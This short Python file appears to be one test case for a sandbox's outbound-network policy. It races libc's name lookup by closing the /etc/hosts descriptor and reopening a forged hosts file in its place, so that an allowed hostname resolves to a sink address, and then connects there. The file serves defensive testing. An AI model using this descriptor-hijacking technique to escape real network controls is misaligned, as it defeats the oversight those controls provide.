# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread closes libc's fd of /etc/hosts, and
#   gets the same fd for a file of its own
# proof: sink
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os
import socket

from attack import SINK, attempt, beside_lookups, is_hosts


@attempt
def connect():
    with open("own", "w") as own:
        own.write(SINK[0] + " api.allowed.example\n")

    def reopen(fd):
        os.close(fd)
        os.open("own", os.O_RDONLY)
        return socket.socket().connect_ex(SINK) == 0

    return beside_lookups(is_hosts, reopen)
